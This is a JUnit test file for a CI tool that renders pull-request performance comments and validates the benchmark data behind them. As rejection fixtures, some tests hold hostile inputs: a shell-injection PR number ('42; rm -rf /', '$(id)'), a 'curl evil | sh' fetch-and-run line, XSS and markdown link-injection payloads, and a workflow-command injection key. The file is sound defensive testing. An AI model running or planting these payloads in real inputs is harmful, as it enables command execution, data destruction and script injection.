package dev.perflab.perf.comment;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.perflab.perf.results.ResultsJson;
import dev.perflab.perf.ResultsTrees;
import dev.perflab.perf.TestRuns;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The comment as a pull request sees it, rendered from what the report tool really
 * writes, and the checks that stop comment data the perf workflow would not have written.
 */
class CommentCommandTests {

	private static final String RUN_URL = "https://github.com/acme/gateway-perf-lab/actions/runs/123456789";

	@TempDir
	Path directory;

	@Test
	void rendersARegressionFromTheReportToolsResults() throws IOException {
		Path data = CommentDataFixture.in(this.directory.resolve("data"))
			.reportOf(TestRuns.compareSlowerHead(this.directory.resolve("run")))
			.write();
		Path body = this.directory.resolve("comment.md");
		CommentRun result = CommentRun.of(data, "--run-url", RUN_URL, "--out", body.toString());
		assertThat(result.exitCode()).isZero();
		assertThat(result.err()).isEmpty();
		assertThat(result.out()).isEqualTo("42" + System.lineSeparator());
		String comment = Files.readString(body);
		assertThat(comment)
			.startsWith(CommentMarkdown.MARKER + "\n## ❌ Gateway performance, head vs base: CPU per request 10.0% "
					+ "worse (+10.0% … +10.0%), and 4 more metrics worse\n")
			.contains("Head `9c1e4b7a2f3d` (branch `feature/faster-auth`) vs base `0a1b2c3d4e5f` (`origin/main`) · "
					+ "profile `clean` · 5 interleaved base/head pairs of 10 s")
			.contains("**Why the gate failed:**")
			.contains("- `CPU per request regressed by +10.0%")
			.contains(
					"| metric | base | head (base × ratio) | change | interval | caught at 95% | threshold | verdict |")
			.contains("| CPU per request (µs) | 180.0 | 198.0 | ▲ +10.0% | ")
			.contains(" | ±3% | 🔴 **regressed** |")
			.contains("| throughput (req/s) | 5,000 | 4,500 | ▲ -10.0% |")
			.containsPattern("### JFR rules: skipped\n\nNot run: `[^`]*--no-jfr[^`]*`")
			.contains("**Environment:** JDK `17.0.15` · ")
			.contains("CPU `Intel(R) Xeon(R) Platinum 8259CL CPU @ 2.50GHz` · "
					+ "2 vCPUs · gateway on CPU `1`, services on `0`, wrk on `0`")
			.endsWith("The job summary of the [workflow run](" + RUN_URL + ") has the JFR evidence in full; "
					+ "[its artifacts](" + RUN_URL + "#artifacts) hold the flame graphs, the recordings and the logs. "
					+ "This comment is updated on every push.\n");
	}

	@Test
	void linksTheTrendAndTheArtifacts() throws IOException {
		Path data = CommentDataFixture.in(this.directory.resolve("data"))
			.reportOf(TestRuns.compareSlowerHead(this.directory.resolve("run")))
			.write();
		Path body = this.directory.resolve("comment.md");
		CommentRun result = CommentRun.of(data, "--run-url", RUN_URL, "--trend-url",
				"https://example.github.io/lab/dev/bench/", "--artifacts-url", RUN_URL + "/artifacts/42", "--out",
				body.toString());
		assertThat(result.exitCode()).isZero();
		assertThat(Files.readString(body)).contains("[its artifacts](" + RUN_URL + "/artifacts/42)")
			.contains("the [trend on main](https://example.github.io/lab/dev/bench/)");
	}

	@Test
	void linksTheDifferentialFlameGraphsToTheRunsArtifacts() throws IOException {
		ObjectNode results = ResultsTrees.drawnFlameGraphDiff(
				CommentDataFixture.resultsOf(TestRuns.compareSlowerHead(this.directory.resolve("run"))));
		Path data = CommentDataFixture.in(this.directory.resolve("data")).results(results).write();
		String comment = CommentRun.of(data, "--run-url", RUN_URL).out();
		String shares = comment.substring(comment.indexOf("### Where the time went"), comment.indexOf("### JFR rules"));
		assertThat(shares).contains("**Differential flame graph, CPU**, head against base: [`flamegraph-diff.html`]("
				+ RUN_URL + "#artifacts) (head's shape; red: more CPU time per request than in base, blue: less, a "
				+ "frame new in head red by its own); what head no longer does: [`flamegraph-diff-gone.html`]("
				+ RUN_URL + "#artifacts), both in the run's artifacts. A frame's width is ns of CPU per request (each "
				+ "side's measured CPU per request shared out by its execution samples): base 52,310 ns per request "
				+ "(41,250 samples over 612,345 requests), head 55,870 ns per request (44,870 samples over 598,760 "
				+ "requests), from every JVM's measured window.")
			.contains("**Differential flame graph, allocation**, head against base: [`flamegraph-alloc-diff.html`]("
					+ RUN_URL + "#artifacts) (head's shape; red: more bytes allocated per request than in base, "
					+ "blue: less, a frame new in head red by its own); what head no longer does: "
					+ "[`flamegraph-alloc-diff-gone.html`](" + RUN_URL + "#artifacts), both in the run's artifacts. "
					+ "A frame's width is bytes allocated per request (the sampled allocations' bytes over the "
					+ "requests served): base 21,481 B per request (9,012 samples over 612,345 requests), head "
					+ "23,912 B per request (9,540 samples over 598,760 requests)");
		assertThat(CommentRun.of(data, "--run-url", RUN_URL, "--artifacts-url", RUN_URL + "/artifacts/42").out())
			.contains("[`flamegraph-diff.html`](" + RUN_URL + "/artifacts/42)");
		// Without an address, no link: one beside the comment would lead nowhere.
		assertThat(CommentRun.of(data).out())
			.contains("what head no longer does: `flamegraph-diff-gone.html`, both in the run's artifacts.")
			.contains("what head no longer does: `flamegraph-alloc-diff-gone.html`, both in the run's artifacts.")
			.doesNotContain("](flamegraph-diff")
			.doesNotContain("](flamegraph-alloc-diff");
	}

	@Test
	void takesNoOtherFileNameForTheDifferentialFlameGraphs() {
		ObjectNode results = ResultsTrees.drawnFlameGraphDiff(
				CommentDataFixture.resultsOf(TestRuns.compareSlowerHead(this.directory.resolve("run"))));
		((ObjectNode) results.get("flameGraphDiff")).put("file", "x.html) [x](https://evil.example");
		assertRejected(results.toString(), "file must be flamegraph-diff.html or null");
		((ObjectNode) results.get("flameGraphDiff")).put("file", "flamegraph-diff.html");
		((ObjectNode) results.get("allocationFlameGraphDiff")).put("file", "flamegraph-diff.html");
		assertRejected(results.toString(), "file must be flamegraph-alloc-diff.html or null");
	}

	@Test
	void rejectsALinkThatIsNotAPlainAddress() {
		Path data = CommentDataFixture.in(this.directory.resolve("data"))
			.reportOf(TestRuns.compareSlowerHead(this.directory.resolve("run")))
			.write();
		CommentRun result = CommentRun.of(data, "--trend-url", "javascript:alert(1)");
		assertThat(result.exitCode()).isEqualTo(2);
		assertThat(result.err()).contains("--trend-url is not a plain https address");
	}

	@Test
	void rendersAPassingComparison() {
		Path data = CommentDataFixture.in(this.directory.resolve("data"))
			.reportOf(TestRuns.compareIdentical(this.directory.resolve("run")))
			.write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isZero();
		assertThat(result.out())
			.contains("## ✅ Gateway performance, head vs base: No change beyond ±3% in CPU per "
					+ "request (+0.0% … +0.0%)")
			.contains("| CPU per request (µs) | 180.0 | 180.0 | +0.0% |")
			.doesNotContain("Why the gate failed")
			.doesNotContain("regressed**");
	}

	@Test
	void rendersASingleModeRun() {
		Path data = CommentDataFixture.in(this.directory.resolve("data"))
			.reportOf(TestRuns.single(this.directory.resolve("run")))
			.write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isZero();
		assertThat(result.out()).contains("## ✅ Gateway performance: pass")
			.contains("| metric | direct (control) | gateway |")
			.contains("| throughput (req/s) | 40,000 | **5,000** |")
			.contains("| gateway / direct RPS |  | **0.125** |")
			.contains("| CPU per request (µs) | 20.0 | **180.0** |");
	}

	@Test
	void saysSoWhenTheRunStoppedBeforeTheReport() {
		Path data = CommentDataFixture.in(this.directory).property("perf.exit_code", "3").write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isZero();
		assertThat(result.out()).startsWith(CommentMarkdown.MARKER + "\n## ⚠️ Gateway performance: no result\n")
			.contains("stopped with exit code 3 (environment error: a missing tool, a busy port, a build or a "
					+ "service that failed)")
			.doesNotContain("build failed");
	}

	@Test
	void namesTheSideWhoseBuildFailedWithTheEndOfItsLogInert() throws IOException {
		Path data = CommentDataFixture.in(this.directory)
			.property("perf.exit_code", "3")
			.property("perf.failed_build", "head")
			.write();
		Files.writeString(data.resolve("build-log-tail.txt"),
				"[INFO] compiling\n[ERROR] Foo.java:[3,1] ';' expected ```` <img src=x onerror=alert(1)> @team\n");
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isZero();
		assertThat(result.out()).contains("**The head build failed**: does the pull request compile?")
			.contains("The last lines of its log:\n\n`````text\n[INFO] compiling\n[ERROR] Foo.java:[3,1] ';' "
					+ "expected ```` <img src=x onerror=alert(1)> @team\n`````\n");
	}

	@Test
	void rejectsAFailedBuildThatIsNeitherSide() {
		Path data = CommentDataFixture.in(this.directory)
			.property("perf.exit_code", "3")
			.property("perf.failed_build", "both")
			.write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isEqualTo(2);
		assertThat(result.err()).contains("perf.failed_build").contains("is not head or base");
	}

	@Test
	void notesAnExitCodeBeyondTheGate() {
		Path data = CommentDataFixture.in(this.directory.resolve("data"))
			.reportOf(TestRuns.compareIdentical(this.directory.resolve("run")))
			.property("perf.exit_code", "130")
			.write();
		assertThat(CommentRun.of(data).out()).contains("⚠️ `perf/local.sh` exited with 130 (interrupted).");
	}

	@ParameterizedTest
	@ValueSource(strings = { "0", "-1", "42abc", "4294967296", "1e3", "0x2a", "42; rm -rf /", "$(id)", "٤٢" })
	void rejectsAPullRequestNumberThatIsNotAPlainNumber(String number) {
		Path data = CommentDataFixture.in(this.directory).property("pr.number", number).write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isEqualTo(2);
		assertThat(result.err()).startsWith("perf comment: invalid comment data: comment.properties: pr.number ");
		assertThat(result.out()).isEmpty();
	}

	@Test
	void rejectsDataOfAnotherHeadSha() {
		Path data = CommentDataFixture.in(this.directory)
			.property("pr.head_sha", "1111111111111111111111111111111111111111")
			.write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isEqualTo(2);
		assertThat(result.err())
			.contains("pr.head_sha is not the head sha of the workflow run (" + CommentDataFixture.HEAD_SHA + ")");
	}

	@Test
	void rejectsAMissingOrMalformedHeadSha() {
		assertThat(
				CommentRun.of(CommentDataFixture.in(this.directory.resolve("a")).property("pr.head_sha", null).write())
					.err())
			.contains("comment.properties: pr.head_sha is missing");
		assertThat(CommentRun
			.of(CommentDataFixture.in(this.directory.resolve("b")).property("pr.head_sha", "HEAD").write())
			.err()).contains("pr.head_sha is not a full commit sha ('HEAD')");
	}

	@Test
	void needsAFullExpectedHeadSha() {
		Path data = CommentDataFixture.in(this.directory).write();
		CommentRun result = CommentRun.raw("comment", data.toString(), "--expected-head-sha", "9c1e4b7");
		assertThat(result.exitCode()).isEqualTo(2);
		assertThat(result.err()).contains("--expected-head-sha needs a full lower-case commit sha");
		assertThat(CommentRun.raw("comment", data.toString()).exitCode()).isEqualTo(2);
	}

	@Test
	void rejectsARunUrlThatIsNotAPlainAddress() {
		Path data = CommentDataFixture.in(this.directory).write();
		assertThat(CommentRun.of(data, "--run-url", "javascript:alert(1)").exitCode()).isEqualTo(2);
		assertThat(CommentRun.of(data, "--run-url", RUN_URL + ") [x](https://evil.example").exitCode()).isEqualTo(2);
	}

	@Test
	void rejectsDataOverTheSizeLimit() throws IOException {
		Path data = CommentDataFixture.in(this.directory)
			.results("{\"padding\": \"" + "x".repeat(5000) + "\"}")
			.write();
		CommentRun result = CommentRun.of(data, "--max-bytes", "4096");
		assertThat(result.exitCode()).isEqualTo(2);
		assertThat(result.err()).contains("more than the limit of 4096");
	}

	@Test
	void rejectsUnexpectedFilesAndLinks() throws IOException {
		Path extra = CommentDataFixture.in(this.directory.resolve("extra")).write();
		Files.writeString(extra.resolve("run.sh"), "curl evil | sh");
		assertThat(CommentRun.of(extra).err()).contains("holds an unexpected entry ('run.sh')");

		Path linked = CommentDataFixture.in(this.directory.resolve("linked")).write();
		Files.writeString(this.directory.resolve("secret.json"), "{}");
		Files.createSymbolicLink(linked.resolve("results.json"), this.directory.resolve("secret.json"));
		assertThat(CommentRun.of(linked).err()).contains("results.json: not a regular file");

		assertThat(CommentRun.of(this.directory.resolve("missing")).err()).contains("not a directory");
		Path empty = Files.createDirectories(this.directory.resolve("empty"));
		assertThat(CommentRun.of(empty).err()).contains("comment.properties: the file is missing");
	}

	@Test
	void rejectsResultsThatAreNotTheReportToolsJson() {
		assertRejected("not json", "results.json: not valid JSON (line 1, column");
		assertRejected("[]", "results.json: $: expected an object");
		assertRejected("{\"schemaVersion\": 2, \"schemaVersion\": 2}", "results.json: not valid JSON");
		assertRejected("{\"schemaVersion\": 1}",
				"results.json: $.schemaVersion: 1 is not the version this reader knows (" + ResultsJson.SCHEMA_VERSION
						+ ")");
		assertRejected("{\"schemaVersion\": " + ResultsJson.SCHEMA_VERSION + "}", "results.json: $.tool: missing");
	}

	@Test
	void rejectsValuesOfTheWrongTypeOrOutsideTheirEnumeration() {
		ObjectNode results = CommentDataFixture.resultsOf(TestRuns.compareSlowerHead(this.directory.resolve("run")));
		ObjectNode verdict = results.deepCopy().put("verdict", "<b>pass</b>");
		assertRejected(verdict.toString(),
				"results.json: $.verdict: expected one of pass, fail, inconclusive ('<b>pass</b>')");
		ObjectNode ratio = results.deepCopy();
		((ObjectNode) ratio.at("/comparison/metrics/0")).put("ratio", "+10%");
		assertRejected(ratio.toString(), "results.json: $.comparison.metrics[0].ratio: expected a number");
		ObjectNode reasons = results.deepCopy();
		((ObjectNode) reasons.get("gate")).putArray("reasons").addObject().put("html", "<script>");
		assertRejected(reasons.toString(), "results.json: $.gate.reasons[0]: expected a string");
		ObjectNode rules = results.deepCopy();
		((ObjectNode) rules.get("rules")).put("status", "green");
		assertRejected(rules.toString(), "results.json: $.rules.status: expected one of pass, warn, fail, skipped");
	}

	@Test
	void rejectsAMetricItDoesNotKnow() {
		// The contract is versioned, not open: a head that adds a metric changes the
		// schema, and the default branch's renderer says so rather than guessing.
		ObjectNode results = CommentDataFixture.resultsOf(TestRuns.compareIdentical(this.directory.resolve("run")));
		((ObjectNode) results.at("/comparison/metrics/0")).put("metric", "gcPausesPerSecond");
		assertRejected(results.toString(), "results.json: $.comparison.metrics[0].metric: expected one of rps, ");
	}

	@Test
	void rejectsAnUnknownKeyWithoutRepeatingIt() {
		ObjectNode results = CommentDataFixture.resultsOf(TestRuns.compareIdentical(this.directory.resolve("run")));
		((ObjectNode) results.get("gate")).put("\n::error::<script>\u202E", true);
		Path data = CommentDataFixture.in(this.directory.resolve("data")).results(results).write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isEqualTo(2);
		assertThat(result.err()).isEqualTo("perf comment: invalid comment data: results.json: "
				+ "$.gate['::error::<script>']: unknown property" + System.lineSeparator());
	}

	private void assertRejected(String results, String message) {
		Path data = CommentDataFixture.in(this.directory.resolve("case-" + Math.abs(results.hashCode())))
			.results(results)
			.write();
		CommentRun result = CommentRun.of(data);
		assertThat(result.exitCode()).isEqualTo(2);
		assertThat(result.err()).contains(message);
		assertThat(result.out()).isEmpty();
	}

}
